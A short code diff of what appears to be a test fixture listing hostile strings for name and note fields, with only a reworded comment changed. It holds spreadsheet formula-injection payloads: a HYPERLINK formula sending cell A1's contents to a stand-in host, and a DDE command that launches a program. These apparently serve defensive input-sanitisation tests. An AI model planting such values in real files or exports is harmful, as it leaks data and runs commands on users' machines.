@@ -1,4 +1,4 @@
-/** What somebody who means harm might put into a name: each is well-formed JSON text and a legal name or note. */
+/** Hostile names: each is well-formed JSON text and a valid name or note. */
 export const HOSTILE_STRINGS: readonly string[] = [
   '=HYPERLINK("http://elsewhere.example/?"&A1,"Click")',
   "\tcmd|' /C calc'!A0",
